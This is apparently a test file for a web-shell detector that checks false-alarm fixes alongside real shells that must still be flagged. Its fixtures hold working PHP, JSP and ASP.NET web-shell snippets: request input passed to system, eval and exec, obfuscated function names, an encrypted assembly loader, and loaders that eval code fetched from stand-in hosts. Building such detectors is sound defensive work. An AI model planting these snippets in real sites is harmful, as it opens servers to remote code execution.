/**
 * Issue 27's false-alarm classes, each at its cause, beside the shell it must still catch:
 * `~` as a regex delimiter or Perl's `=~` is not a string negated bit by bit; `assert()` as a
 * type check runs no code; a variable call is not a shell because the file also holds
 * 'system' as a string somewhere else.
 */
import { describe, expect, it } from 'vitest';
import { judgeWebShell } from '../../src/findings/web-shell.js';
import { disguisesIn } from '../../src/findings/web-shell/disguises.js';
import { addedFile, fileMeta } from '../support/change-facts.js';
import { isRuleAlarm } from '../support/top-finding.js';

const judge = (path: string, text: string) =>
  judgeWebShell(addedFile(path, text, { current: fileMeta({ sizeBytes: text.length }) }), false);
const severity = (path: string, text: string) => judge(path, text)?.severity ?? 'none';

describe('web-shell false alarms fixed at their cause', () => {
  it('takes ~ for negation only when what it negates is unreadable bytes', () => {
    for (const text of [
      `<?php if (preg_match('~^[a-z]+$~', $_GET['n'])) { $x = call($y); } $r = preg_replace("~\\s+~", ' ', $s);`,
      `#!/usr/bin/perl\nif ($ENV{QUERY_STRING} =~ "^name=") { print "ok"; } my $ok = $x !~ 'abc';`,
      `<?php $cookie = $c . "~" . $n . "~" . $p;`,
    ])
      expect(disguisesIn(text)).not.toContain('strings negated bit by bit');
    expect(disguisesIn(`<?php $f = ~"\\x8c\\x86\\x8c\\x8b\\x9a\\x92"; $f($_GET['c']);`)).toContain(
      'strings negated bit by bit',
    );
    expect(disguisesIn('<?php $f = ~"\u008c\u0086\u008c\u008b"; $f($_GET["c"]);')).toContain(
      'strings negated bit by bit',
    );
  });

  it('leaves a page that uses ~ as its regex delimiter near a dynamic call below high', () => {
    const text = `<?php
      $handler = $this->routes[$name];
      if (preg_match('~^/api/(\\w+)~', $_SERVER['REQUEST_URI'], $m)) $out = $handler($m[1]);
      $clean = preg_replace('~[^a-z]~', '', $x);`;
    expect(severity('/var/www/html/router.php', text)).not.toMatch(/high|critical/);
  });

  it('takes str_replace for a disguise only when it takes a marker strewn through a name', () => {
    expect(
      disguisesIn(`<?php $f = str_replace('.', '', 'foldertest' . microtime(true));`),
    ).not.toContain('names hidden by str_replace');
    expect(disguisesIn(`<?php $f = str_replace('k', '', 'askserkt'); $f($_POST['c']);`)).toContain(
      'names hidden by str_replace',
    );
  });

  it('reads no variable variable inside single quotes beside a superglobal named in a string', () => {
    const test = `<?php $target = new TestTarget(['logVars' => ['_SERVER']]);
      $password = '!P@$$w0rd#'; $this->assertStringNotContainsString($password, $out);`;
    expect(disguisesIn(test)).not.toContain('the request read through a name held in a string');
    // A template engine's settings, set as static properties named by a variable.
    const settings = `<?php class T { static $black_list = array('_SESSION', '_SERVER', 'eval');
      static function configure($setting, $value) { self::$$setting = $value; } }`;
    expect(disguisesIn(settings)).not.toContain('the request read through a name held in a string');
    expect(disguisesIn(settings)).not.toContain('variable variables');
    for (const walk of [
      `<?php foreach (array('_POST', '_GET') as $n) foreach ($$n as $k => $v) $o .= $v;`,
      `<?php $n = '_POST'; $f = \${'_GET'}['f']; $f(\${$n}['c']);`,
    ])
      expect(disguisesIn(walk), walk).toContain('the request read through a name held in a string');
  });

  it('reads a request value the page sets before running code as no request input', () => {
    // WP-CLI runs wp-admin/admin.php in its own process, as if requested without headers.
    const admin = `<?php
      $admin_php_file = (string) file_get_contents( ABSPATH . 'wp-admin/admin.php' );
      $admin_php_file = (string) preg_replace( '/^<\\?php\\s+/', '', $admin_php_file );
      $_GET['noheader'] = true;
      eval( $admin_php_file );`;
    expect(severity('/var/www/html/wp-cli/php/Context/Admin.php', admin)).not.toMatch(
      /high|critical/,
    );
    const read = admin.replace("$_GET['noheader'] = true;", "$_GET['noheader'] == 1 && $x = 1;");
    expect(severity('/var/www/html/wp-cli/php/Context/Admin.php', read)).toMatch(/high|critical/);
  });

  it("takes a cast's name made as $type.'val' for no piece of eval", () => {
    // Flarum casts an attribute with intval, boolval… named by its cast type.
    const cast = `<?php if (is_string($cast) && function_exists($func = $cast.'val')) { return $func($value); }`;
    expect(disguisesIn(cast)).not.toContain('names cut into pieces');
    for (const cut of [
      `<?php $f = "ev"."al"; $f($_POST['c']);`,
      `<?php $f = $ch."ert"; $f($_POST['c']);`,
      `<?php $e = chr('97').'ssert'; $e($_POST['c']);`,
    ])
      expect(disguisesIn(cut), cut).toContain('names cut into pieces');
  });

  it('takes a list of words for no pieces of a name unless they make it one after another', () => {
    // e107's ['type', 'name', 'value'] runs across 'eval'; a shell's extension list 'exec'.
    for (const list of [
      `<?php foreach (array('type', 'name', 'value') as $k) { $attr[$k] = $field[$k]; }`,
      `<?php $deny = array('exe','com','pif','src','lnk');`,
    ])
      expect(disguisesIn(list), list).not.toContain('names cut into pieces');
    for (const cut of [
      `<?php $p = array('as', 'se', 'rt'); $f = implode('', $p); $f($_POST['c']);`,
      `<?php $p = ['s', 'x', 'ys', 'te', 'm']; $f = $p[0].$p[2].$p[3].$p[4]; $f($_GET['c']);`,
      `<?php $c = explode(".", "hi.ass.x.er.t"); $f = $c[1].$c[3].$c[4]; $f($_GET['c']);`,
    ])
      expect(disguisesIn(cut), cut).toContain('names cut into pieces');
  });

  it('takes backticks quoting SQL names inside strings for no command', () => {
    const sql = `<?php
      $db = $_GET['db'];
      $privs[] = 'SELECT (\`' . implode('\`, \`', $cols[$db]) . '\`)';
      $q = 'GRANT ' . implode(', ', $privs) . ' ON \`' . $db . '\`.*';`;
    expect(severity('/var/www/html/privileges.php', sql)).not.toMatch(/high|critical/);
    expect(severity('/var/www/html/x.php', "<?php $o = `ls $_GET['d']`; echo $o;")).toBe(
      'critical',
    );
  });

  it('takes assert() used as a type check on request data for no code sink', () => {
    for (const text of [
      `<?php $id = $_GET['id']; assert(is_numeric($id)); echo load($id);`,
      `<?php assert(is_array($_POST['items']), 'items must be a list');`,
      `<?php $n = $_REQUEST['n']; assert($n !== null && strlen($n) < 64);`,
      `<?php assert($_POST['x'] instanceof Foo);`,
      // SimpleSAMLphp's mark of a line never reached, after a redirect the request chose.
      `<?php if (!isset($_GET['RelayState'])) { throw new Exception('no RelayState'); }
$idp->doLogoutRedirect(checkURLAllowed((string) $_GET['RelayState']));
assert(false);`,
    ])
      expect(severity('/var/www/html/form.php', text), text).not.toMatch(/high|critical/);
    // Still a shell: the request's own text handed to assert(), which PHP 5 and 7 evaluate.
    expect(severity('/opt/a.php', `<?php assert($_POST['x']);`)).toBe('critical');
    expect(severity('/opt/b.php', `<?php $c = $_REQUEST['c']; @assert($c);`)).toBe('critical');
    expect(severity('/opt/c.php', `<?php if ($_GET['k']) assert('sys' . 'tem("id")');`)).toBe(
      'critical',
    );
  });

  it('takes escaped bytes for a disguise only when they spell printable text', () => {
    // A zip's end record, phpseclib's counter block: binary constants, not hidden names.
    expect(disguisesIn('<?php $end = "\\x50\\x4b\\x05\\x06\\x00\\x00\\x00\\x00";')).not.toContain(
      'escaped bytes',
    );
    expect(
      disguisesIn('<?php $v = substr_replace($v, "\\x80\\x00\\x00\\x00", -$i, 4);'),
    ).not.toContain('escaped bytes');
    expect(disguisesIn('<?php $f = "\\x73\\x79\\x73\\x74\\x65\\x6d";')).toContain('escaped bytes');
    expect(disguisesIn('<?php $f = "\\163\\171\\163\\164\\145\\155";')).toContain('escaped bytes');
  });

  it('takes chr() pieces for a hidden name only when they spell letters', () => {
    expect(disguisesIn('<?php $req = chr(0) . chr(1) . chr(0) . $data . chr(0);')).not.toContain(
      'names spelt with chr()',
    );
    expect(disguisesIn('<?php $f = chr(115) . chr(121) . chr(115) . "tem";')).toContain(
      'names spelt with chr()',
    );
  });

  it("does not take a variable call for a shell because 'system' is a string elsewhere", () => {
    const text = `<?php
      $platforms = array('linux' => 'Linux', 'system' => 'System default');
      $cb = $this->formatters[$type];
      echo $cb($row);`;
    expect(severity('/var/www/html/lib.php', text)).not.toMatch(/high|critical/);
    const also = `<?php if ($mode == 'assert') { log_it('assert'); } $fn = $map[$k]; $fn();`;
    expect(severity('/var/www/html/lib2.php', also)).not.toMatch(/high|critical/);
    // Carbon's installer: the name chosen, then handed one fixed command.
    const installer = `<?php
      $function = (($parameters[1] ?? '') === 'install' ? ($parameters[2] ?? null) : null) ?: 'shell_exec';
      $function('composer require carbon-cli/carbon-cli --no-interaction');`;
    expect(severity('/var/www/html/Invoker.php', installer)).not.toMatch(/high|critical/);
    // Still a shell: the variable called holds the name, directly or through a list.
    expect(severity('/opt/c.php', `<?php $f = 'system'; $f($cmd);`)).toBe('critical');
    expect(severity('/opt/e.php', `<?php $f = 'assert'; $f("eval(\\$_POST[1])");`)).toBe(
      'critical',
    );
    expect(
      severity('/opt/d.php', `<?php foreach (array('passthru', 'system') as $f) { $f($c); }`),
    ).toBe('critical');
  });

  it("does not take what a method returns for the 'system' it was handed", () => {
    // Friendica: the theme is read from the 'system' category of its configuration.
    const theme = `<?php
      $theme = DI::config()->get('system', 'theme');
      $func = "{$theme}_install";
      if (function_exists($func)) { $func(); }`;
    expect(severity('/var/www/html/src/Core/Theme.php', theme)).not.toMatch(/high|critical/);
    // PHP's own functions may hand the name back, found or cut out of text.
    expect(severity('/opt/g.php', `<?php $f = trim('system'); $f($_POST['c']);`)).toBe('critical');
    const cut = `<?php $pos = strpos($doc, 'assert'); $fun = substr($doc, $pos, 6); $fun($code);`;
    expect(severity('/opt/h.php', cut)).toBe('critical');
  });

  it('does not take a list of names called whole, or a key of an item, for a runner called', () => {
    // A panel's menu: area names, 'system' among them; a setting may give a closure instead.
    const menu = `<?php
      $areas = $kirby->option('panel.menu');
      if ($areas instanceof Closure) { $areas = $areas($kirby); }
      $defaults = ['site', 'languages', 'users', 'system'];
      $areas = [...$defaults, ...$extra];
      foreach ($areas as $id => $area) {
        $menu = $area['menu'] ?? false;
        if ($menu instanceof Closure) { $menu = $menu($this->areas); }
      }`;
    expect(severity('/var/www/html/src/Panel/Menu.php', menu)).not.toMatch(/high|critical/);
    // An item of such a list called is still a runner called.
    expect(severity('/opt/e.php', `<?php $a = array('system', 'id'); $a[0]($a[1]);`)).toBe(
      'critical',
    );
    expect(severity('/opt/f.php', `<?php $l = ['assert']; $f = $l[0]; $f($_POST['x']);`)).toBe(
      'critical',
    );
  });

  it('calls a page that lists any folder and hands out any file the visitor names a file browser, and a download page nothing', () => {
    const browser = `<?php
$dir  = isset($_GET["dir"])  ? $_GET["dir"]  : ".";
$file = isset($_GET["file"]) ? $_GET["file"] : "";
if ($file != "" && file_exists($file)) { header("Content-type: application/x-download"); readfile($file); die(); }
$curdir = realpath($dir);
if ($handle = @opendir($curdir)) { while (($f = readdir($handle)) !== false) echo "<a href='?file=$curdir/$f'>$f</a>"; }
`;
    expect(judge('/var/www/html/file.php', browser)).toMatchObject({
      severity: 'critical',
      reason: expect.stringMatching(/a file browser/),
    });
    const download = browser.replace(
      /\$curdir = realpath[^\n]*\n.*\n$/,
      'foreach (scandir(__DIR__ . "/files") as $f) echo "<a href=\'?file=files/$f\'>$f</a>";\n',
    );
    expect(download).not.toContain('opendir');
    expect(isRuleAlarm('/var/www/html/download.php', download)).toBe(false);
    // The request picks an entry of a list the server made (zoneminder's video.php).
    const byIndex = browser.replace('readfile($file)', "readfile($files[$_GET['i']])");
    expect(judge('/var/www/html/video.php', byIndex)?.reason).not.toMatch(/file browser/);
  });

  it('calls an include of code kept in an image-named file a loader, and a template include nothing', () => {
    expect(
      severity('/opt/i.php', '<?php @include "\\x2fvar/www/html/img/favicon_1a3f84\\x2eico"; ?>'),
    ).toBe('critical');
    expect(severity('/var/www/html/t.php', "<?php include 'templates/header.php'; ?>")).not.toMatch(
      /high|critical/,
    );
    // The path built around the literal that names the file.
    expect(
      severity(
        '/var/www/html/l.php',
        '<?php @include($_SERVER["DOCUMENT_ROOT"] . "/wp-content/uploads/2020/01/logo.png");',
      ),
    ).toBe('critical');
    const built = `<?php require_once dirname(__FILE__) . '/lib/' . 'header.php'; $logo = 'logo.png'; ?>`;
    expect(severity('/var/www/html/h.php', built)).not.toMatch(/high|critical/);
  });
  it('takes a name passed through escapeshellarg() for one word of a command the page writes', () => {
    // Ampache: the administrator's upload script, given the uploaded file's name, quoted.
    const script = `<?php
function upload($catalog) {
    $targetfile = $catalog->path . '/' . $_POST['album'] . '/' . $_POST['title'] . '.mp3';
    if (!copy_to_catalog($targetfile)) {
        return report_failure('Cannot copy the file to the target directory.', $targetfile);
    }
    return add_to_catalog($catalog, $targetfile, ['license' => license_of($catalog)]);
}

function upload_script(string $targetdir, string $targetfile): void {
    $script = AmpConfig::get('upload_script');
    if (AmpConfig::get('allow_upload_scripts') && $script) {
        chdir($targetdir);
        $script = str_replace('%FILE%', escapeshellarg($targetfile), $script);
        exec($script);
    }
}`;
    expect(severity('/var/www/html/Upload.php', script)).not.toMatch(/high|critical/);
    // Still a shell: the command itself from the request, or the request in it unquoted.
    const own = `<?php $c = $_POST['c']; $cmd = $c . ' ' . escapeshellarg($f); exec($cmd, $out);`;
    expect(severity('/opt/a.php', own)).toBe('critical');
    const ping = `<?php $h = $_GET['h']; $cmd = "ping -c 1 $h"; echo shell_exec($cmd);`;
    expect(severity('/opt/b.php', ping)).toBe('critical');
  });

  it("takes eval() of one single-quoted string for the page's own code", () => {
    // AWL's fallback apache_request_headers(), defined through eval() when it is missing.
    const fallback = `<?php
if (!function_exists('apache_request_headers')) {
  eval('
    function apache_request_headers() {
        foreach($_SERVER as $key=>$value) {
            if (substr($key,0,5)=="HTTP_") { $out[str_replace("_","-",substr($key,5))]=$value; }
        }
        return $out;
    }
  ');
}`;
    expect(isRuleAlarm('/usr/share/awl/inc/AWLUtilities.php', fallback)).toBe(false);
    // Still a shell: the code the string carries runs the request, or the string is joined to it.
    expect(severity('/opt/a.php', `<?php eval('system($_GET["c"]);');`)).toBe('critical');
    expect(severity('/opt/b.php', `<?php eval('?>' . $_POST['x']);`)).toBe('critical');
    // Single quotes inside a double-quoted string hold what PHP puts in: a perl shell.
    const perl = `<?php function sh($c) { $perl = new perl(); $perl->eval("system('$c')"); }
$command = $_GET['cmd']; sh($command);`;
    expect(severity('/opt/p.php', perl)).toBe('critical');
  });

  it('reads a name inside single quotes joined to eval() as text, and one outside as the value', () => {
    // SMF's theme settings: a line of a theme's own file evaluated with a `global` in front.
    const theme = `<?php
$settings = $_POST['settings'];
${'save_setting($id, $settings);\n'.repeat(12)}
if (preg_match('~\\$settings\\[\\'theme_variants\\'\\]\\s*=(.+?);~', $contents, $matches))
  eval('use SMF\\\\Theme; global $settings; ' . $matches[0]);`;
    expect(isRuleAlarm('/var/www/html/Sources/Theme.php', theme)).toBe(false);
    // The same name outside the quotes is the request's value run.
    const shell = theme.replace("' . $matches[0]", "' . $settings");
    expect(severity('/var/www/html/x.php', shell)).toBe('critical');
    // An apostrophe inside double quotes opens no single-quoted string.
    expect(
      severity('/var/www/html/y.php', `<?php $c = $_GET['c']; eval("echo 'it" . $c . "';");`),
    ).toBe('critical');
  });

  it('does not take a posted name reused beside an eval() of the page’s own text for the request run', () => {
    // SMF's theme picker: $variant posted, and later a loop's variable beside the eval() of a
    // line of a theme's own file.
    const picker = `<?php function pick() {
  if (isset($_POST['vrt'])) $variant = $_POST['vrt'];
  ${'update_theme($id, $variant);\n'.repeat(12)}
  if (preg_match('~theme_variants\\s*=(.+?);~', $file, $m)) {
    eval('use SMF\\\\Theme; ' . $m[0]);
    foreach ($theme_variants as $variant) { $list[] = $variant; }
  }
}`;
    expect(isRuleAlarm('/var/www/html/Sources/Theme.php', picker)).toBe(false);
    // The posted name handed to eval() itself is the request run.
    expect(severity('/var/www/html/x.php', picker.replace("' . $m[0]", "' . $variant"))).toBe(
      'critical',
    );
  });

  it("does not count an upload's temporary file as a path the visitor names", () => {
    // Piwigo's web service: the upload moved in, a failed one removed, a resized copy renamed.
    const upload = `<?php
$file = $_FILES['file'];
$dest = $upload_dir . '/' . date('YmdHis') . '-' . substr(md5(uniqid()), 0, 8) . '.' . get_extension($file['name']);
if (!move_uploaded_file($file['tmp_name'], $dest)) { unlink($dest); die('upload failed'); }
rename($dest . '.tmp', $dest);`;
    expect(isRuleAlarm('/var/www/html/ws.php', upload)).toBe(false);
    // Still a file manager: three operations on paths the visitor names.
    const manager = upload.replace(
      "rename($dest . '.tmp', $dest);",
      "chmod($_POST['p'], 0777); copy($_POST['p'], $_POST['to']);",
    );
    expect(severity('/opt/m.php', manager)).toBe('critical');
  });
});

describe('JSP and ASP.NET pages judged by the code their server runs', () => {
  const jspForm = `<%@ page contentType="text/html" %>
<% String id = request.getParameter("id"); %>
<html><script type="text/javascript">
  function total(f) { return eval(f.a.value + "+" + f.b.value); }
  var data = eval("(" + '<%= id %>' + ")");
</script></html>`;

  it('leaves a JSP form whose browser script calls eval() below high', () => {
    expect(severity('/var/lib/tomcat/webapps/app/form.jsp', jspForm)).not.toMatch(/high|critical/);
  });

  it('still calls server code inside a browser script a web shell', () => {
    const text = `<html><script>
  var out = "<% Process p = Runtime.getRuntime().exec(request.getParameter("c")); %>";
</script></html>`;
    expect(severity('/var/lib/tomcat/webapps/app/x.jsp', text)).toBe('critical');
  });

  it("still judges JSP's XML scriptlets inside a browser script", () => {
    const text = `<html><script>
<jsp:scriptlet>Process p = Runtime.getRuntime().exec(request.getParameter("c"));</jsp:scriptlet>
</script></html>`;
    expect(severity('/var/lib/tomcat/webapps/app/z.jsp', text)).toBe('critical');
  });

  it('keeps server code that prints a <script> tag whole', () => {
    const text = `<% out.println("<script>"); Runtime.getRuntime().exec(request.getParameter("c")); out.println("</script>"); %>`;
    expect(severity('/var/lib/tomcat/webapps/app/y.jsp', text)).toBe('critical');
  });

  it("takes request.getMethod() for the HTTP verb, not a method looked up by a visitor's name", () => {
    const text = `<%@ page import="java.util.*" %>
<% String mode = request.getParameter("mode");
if (request.getMethod().equalsIgnoreCase("POST")) { save(mode); } %>`;
    expect(severity('/var/lib/tomcat/webapps/app/edit.jsp', text)).not.toMatch(/high|critical/);
    const shell = `<% String m = request.getParameter("m");
Object r = Class.forName("java.lang.Runtime").getMethod(m, String.class).invoke(null, "id"); %>`;
    expect(severity('/var/lib/tomcat/webapps/app/r.jsp', shell)).toBe('critical');
  });

  it("takes an ASP.NET data-binding Eval() for DataBinder's field lookup", () => {
    const text = `<%@ Page Language="C#" %>
<script runat="server">void Page_Load() { var q = Request.QueryString["q"]; Grid.DataBind(); }</script>
<asp:Repeater id="Grid" runat="server"><ItemTemplate><%# Eval("Title") %> <%#: Bind("Name") %></ItemTemplate></asp:Repeater>`;
    expect(severity('/inetpub/wwwroot/list.aspx', text)).not.toMatch(/high|critical/);
    const chopper = `<%@ Page Language="Jscript"%><%eval(Request.Item["z"],"unsafe");%>`;
    expect(severity('/inetpub/wwwroot/c.aspx', chopper)).toBe('critical');
  });

  it('reads a server script element whose quotes are curly as the server code it is', () => {
    const text = `<%@ Page Language="C#" %>
<script runat=\u201cserver\u201d>
void Page_Load() { Response.Write("<script>alert(1)</" + "script>");
  System.Diagnostics.Process.Start("cmd.exe", "/c " + Request["c"]); }
</script>`;
    expect(severity('/inetpub/wwwroot/d.aspx', text)).toBe('critical');
  });
});

describe('ASP.NET pages that decrypt the request and load it as code', () => {
  const shell = `<%@ Page Language="C#" %><%
var key = System.Text.Encoding.ASCII.GetBytes("e45e329feb5d925b");
var body = Request.BinaryRead(Request.ContentLength);
var plain = new System.Security.Cryptography.RijndaelManaged().CreateDecryptor(key, key).TransformFinalBlock(body, 0, body.Length);
var asm = typeof(System.Reflection.Assembly).GetMethod(System.Text.Encoding.UTF8.GetString(System.Convert.FromBase64String("TG9hZA==")), new System.Type[] { typeof(byte[]) }).Invoke(null, new object[] { plain });
((System.Reflection.Assembly)asm).CreateInstance("U").Equals(this); %>`;

  it('calls one a web shell, whatever the names', () => {
    expect(judge('/inetpub/wwwroot/s.aspx', shell)).toMatchObject({
      severity: 'critical',
      reason: expect.stringMatching(/decrypts what the request sends/),
    });
  });

  it('leaves a page that decrypts a token from the request, and loads no code, below high', () => {
    const text = `<%@ Page Language="C#" %><%
var token = System.Convert.FromBase64String(Request.QueryString["t"]);
var aes = System.Security.Cryptography.Aes.Create();
var plain = aes.CreateDecryptor(Key, IV).TransformFinalBlock(token, 0, token.Length);
UserName.Text = System.Text.Encoding.UTF8.GetString(plain); %>`;
    expect(severity('/inetpub/wwwroot/login.aspx', text)).not.toMatch(/high|critical/);
  });
});

describe('PHP code run from a download, and create_function() of the request', () => {
  it('calls a page that evaluates what it downloads a web shell, and one that only reads a feed nothing', () => {
    expect(
      severity(
        '/var/www/html/m.php',
        `<?php eval("?>" . file_get_contents("https://example.org/s.txt")); ?>`,
      ),
    ).toBe('critical');
    expect(severity('/var/www/html/i.php', `<?php include('http://example.org/x.txt');`)).toBe(
      'critical',
    );
    expect(
      severity(
        '/var/www/html/feed.php',
        `<?php $xml = file_get_contents("https://example.org/feed.xml"); $n = json_decode($_GET['n']); echo htmlspecialchars($xml);`,
      ),
    ).not.toMatch(/high|critical/);
  });

  it('follows what is downloaded through a curl function of its own and a variable to eval()', () => {
    const fetcher = `<?php
function getUrl($url) {
  $ch = curl_init();
  curl_setopt($ch, CURLOPT_URL, $url);
  curl_setopt($ch, CURLOPT_RETURNTRANSFER, 1);
  $result = curl_exec($ch);
  curl_close($ch);
  return $result;
}
`;
    const loader = `${fetcher}$str = getUrl("https://paste.example/raw/9s4n");\necho eval("?>" . $str);`;
    expect(judge('/var/www/html/406.php', loader)).toMatchObject({
      severity: 'critical',
      reason: expect.stringMatching(/runs code it downloads/),
    });
    // The same function reading a feed, and eval() of a sum of the page's own.
    const feed = `${fetcher}$rates = json_decode(getUrl("https://api.example/rates.json"), true);\n$total = eval('return 1 + 2;');\necho $rates['EUR'] * $total;`;
    expect(judge('/var/www/html/rates.php', feed)?.reason ?? '').not.toMatch(/downloads/);
  });

  it('follows a curl handle whose CURLOPT_URL is a URL the page spells out to eval()', () => {
    const loader = `<?php
$Url = "https://paste.example/raw/media-new.txt";
$ch = curl_init();
curl_setopt($ch, CURLOPT_URL, $Url);
curl_setopt($ch, CURLOPT_RETURNTRANSFER, true);
$output = curl_exec($ch);
curl_close($ch);
echo eval('?>' . $output);`;
    expect(judge('/var/www/html/media.php', loader)).toMatchObject({
      severity: 'critical',
      reason: expect.stringMatching(/runs code it downloads/),
    });
    // A handle on the URL the visitor gives is a proxy's, and eval() of a sum of its own.
    const proxy = loader
      .replace('curl_setopt($ch, CURLOPT_URL, $Url);', "curl_setopt($ch, CURLOPT_URL, $_GET['u']);")
      .replace("echo eval('?>' . $output);", "echo $output; $n = eval('return 1 + 2;');");
    expect(judge('/var/www/html/proxy.php', proxy)?.reason ?? '').not.toMatch(/downloads/);
  });

  it('judges create_function() by its code, the second argument', () => {
    const shell = `<?php $code = $_GET['code']; $f = create_function('', $code); $f();`;
    expect(severity('/var/www/html/cf.php', shell)).toBe('critical');
    const withArgs = `<?php $f = create_function('$x', $_POST['body']); $f(1);`;
    expect(severity('/var/www/html/cf2.php', withArgs)).toBe('critical');
  });

  it('reads filter_input(INPUT_GET, …) as request input, as $_GET is', () => {
    const shell = `<?php $c = filter_input(INPUT_GET, 'cmd'); if ($c) { system($c); }`;
    expect(severity('/var/www/html/f.php', shell)).toBe('critical');
    const page = `<?php $id = filter_input(INPUT_GET, 'id', FILTER_VALIDATE_INT); echo htmlspecialchars(get_post($id));`;
    expect(severity('/var/www/html/post.php', page)).not.toMatch(/high|critical/);
  });
});
